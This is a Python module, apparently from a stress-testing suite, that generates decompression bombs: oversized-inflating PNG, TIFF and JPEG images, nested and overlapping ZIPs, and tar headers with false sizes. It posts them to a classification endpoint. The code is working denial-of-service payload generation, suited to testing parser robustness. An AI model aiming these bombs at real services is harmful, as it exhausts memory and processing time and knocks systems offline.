"""Decompression bombs: small inputs that need much memory or time when unpacked, each with its unpacked size."""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from random import Random

from stress.attacks.case import Case, sends
from stress.attacks.spoilt import chunk, delivered
from stress.clients.pictures import picture, tarred, zipped
from stress.clients.wire import post

MB = 1_000_000
_PNG = b"\x89PNG\r\n\x1a\n"


@cache
def _zeros(count: int) -> bytes:
    """A number of zeros, deflated to a thousandth."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(min(MB, count - at))) for at in range(0, count, MB)) + packer.flush()


def _png(width: int, height: int, inflated: int, before: bytes = b"", bits: int = 8, colour: int = 2) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))
    return _PNG + header + before + chunk(b"IDAT", _zeros(inflated)) + chunk(b"IEND", b"")


def _tiff(tags: dict[int, tuple[int, int, int]], data: bytes = b"") -> bytes:
    """tag → (type, count, value or offset)."""
    directory = b"".join(struct.pack("<HHII", tag, *field) for tag, field in sorted(tags.items()))
    head = b"II*\0" + struct.pack("<IH", 8, len(tags)) + directory + struct.pack("<I", 0)
    return head.ljust(400, b"\0") + data


def _plain(width: int, height: int, **more: tuple[int, int, int]) -> dict[int, tuple[int, int, int]]:
    sizes = {256: (4, 1, width), 257: (4, 1, height), 258: (3, 1, 8), 259: (3, 1, 8), 262: (3, 1, 1), 277: (3, 1, 1)}
    return sizes | {int(tag[1:]): field for tag, field in more.items()}


def _scans(count: int) -> bytes:
    """A progressive JPEG that refines one coefficient again and again."""
    data = picture(1, "JPEG").replace(b"\xff\xc0", b"\xff\xc2", 1)
    at = data.index(b"\xff\xda")
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x01\x3f\x00" + b"\x00"
    return data[:at] + scan * count + b"\xff\xd9"


PICTURES: dict[str, Callable[[], bytes]] = {
    "PNG of 4000 x 4000, as large as is read": lambda: _png(4000, 4000, 4000 * 12_001),
    "PNG of 20000 x 20000": lambda: _png(20_000, 20_000, 100 * MB),
    "PNG of 20000 x 20000 in 1 bit": lambda: _png(20_000, 20_000, 20_000 * 2501, bits=1, colour=0),
    "PNG of 64 x 64 whose data inflates to 200 MB": lambda: _png(64, 64, 200 * MB),
    "PNG with a text of 200 MB": lambda: _png(64, 64, 64 * 193, chunk(b"zTXt", b"a\0\0" + _zeros(200 * MB))),
    "PNG with a profile of 200 MB": lambda: _png(64, 64, 64 * 193, chunk(b"iCCP", b"a\0\0" + _zeros(200 * MB))),
    "PNG with 20,000 texts": lambda: _png(64, 64, 64 * 193, chunk(b"tEXt", b"a\0b") * 20_000),
    "TIFF of 64 x 64 whose strip inflates to 200 MB": lambda: _tiff(
        _plain(64, 64, t273=(4, 1, 400), t278=(4, 1, 64), t279=(4, 1, len(_zeros(200 * MB)))), _zeros(200 * MB)
    ),
    "TIFF of 64 x 64 in a tile of 30000 x 30000": lambda: _tiff(
        _plain(64, 64, t322=(4, 1, 30_000), t323=(4, 1, 30_000), t324=(4, 1, 400), t325=(4, 1, 1000)), _zeros(MB)
    ),
    "TIFF that names 4 billion strips": lambda: _tiff(_plain(64, 64, t273=(4, 0xFFFFFFFF, 400), t279=(4, 1, 9))),
    "TIFF with a tag of 4 GB": lambda: _tiff(_plain(64, 64, t270=(2, 0xFFFFFFFF, 0), t273=(4, 1, 400), t279=(4, 1, 9))),
    "TIFF with 60,000 samples a pixel": lambda: _tiff(
        {**_plain(64, 64, t273=(4, 1, 400), t279=(4, 1, 9)), 277: (3, 1, 60_000)}
    ),
    "JPEG of 99 scans": lambda: _scans(99),
    "JPEG of 10,000 scans": lambda: _scans(10_000),
}


def _deflated(members: int, size: int) -> bytes:
    return zipped([(f"{at}.png", bytes(size)) for at in range(members)], zipfile.ZIP_DEFLATED)


def _nested(depth: int) -> bytes:
    inner = _deflated(2, 5 * MB)
    for _ in range(depth):
        inner = zipped([(f"{at}.zip", inner) for at in range(3)], zipfile.ZIP_DEFLATED)
    return inner


def _overlapping(entries: int) -> bytes:
    """Every entry of the directory is one and the same member."""
    one = _deflated(1, 5 * MB)
    at = one.index(b"PK\x01\x02")
    end = one.index(b"PK\x05\x06")
    directory = one[at:end] * entries
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), at, 0)
    return one[:at] + directory + tail


def _lying() -> bytes:
    """A ZIP with a directory that states 900 bytes for 50 MB."""
    data = bytearray(_deflated(1, 50 * MB))
    struct.pack_into("<L", data, data.index(b"PK\x01\x02") + 24, 900)
    struct.pack_into("<L", data, 22, 900)
    return bytes(data)


def _sparse() -> bytes:
    """A tar member of 8 GB without data, as GNU tar writes a file with holes."""
    info = tarfile.TarInfo("sparse.png")
    info.type, info.size = tarfile.GNUTYPE_SPARSE, 0
    block = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    block[483:495] = b"77777777777\0"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + bytes(1024)


def _claimed(size: int) -> bytes:
    """A tar member with a large stated size and no data."""
    info = tarfile.TarInfo("claimed.png")
    info.size = size
    return info.tobuf(tarfile.GNU_FORMAT) + bytes(1024)


def _long_name(size: int) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as archive:
        archive.addfile(tarfile.TarInfo("a" * size))
    return file.getvalue()


ARCHIVES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "ZIP of 20 members of 9 MB": ("zip", lambda: _deflated(20, 9 * MB)),
    "ZIP of 3 members of 100 MB": ("zip", lambda: _deflated(3, 100 * MB)),
    "ZIP in ZIP in ZIP": ("zip", lambda: _nested(2)),
    "ZIP in ZIP, six deep": ("zip", lambda: _nested(5)),
    "ZIP of 60 entries for one member of 5 MB": ("zip", lambda: _overlapping(60)),
    "ZIP of 60,000 entries for one member": ("zip", lambda: _overlapping(60_000)),
    "ZIP that says 900 bytes of 50 MB": ("zip", _lying),
    "ZIP of 12,000 empty members": ("zip", lambda: zipped([(str(at), b"") for at in range(12_000)])),
    "ZIP in a tar": ("x-tar", lambda: tarred([("a.zip", _nested(1))])),
    "tar of a sparse member of 8 GB": ("x-tar", _sparse),
    "tar of a member of 8 GB that is not there": ("x-tar", lambda: _claimed(8**11 - 1)),
    "tar with a name of 5 MB": ("x-tar", lambda: _long_name(5 * MB)),
    "tar of 30,000 folders": ("x-tar", lambda: tarred([("a/", b"")] * 30_000)),
}


@cache
def _picture(name: str) -> bytes:
    return PICTURES[name]()


@cache
def _archive(name: str) -> bytes:
    return ARCHIVES[name][1]()


def bomb(family: str, chance: Random) -> Case:
    """One decompression bomb."""
    name = chance.choice([*PICTURES, *ARCHIVES])
    if name in PICTURES:
        return delivered(family, chance, name, _picture(name))
    kind = f"application/{ARCHIVES[name][0]}"
    return sends(family, name, post("/classify/batch?maps=none", kind, _archive(name)))
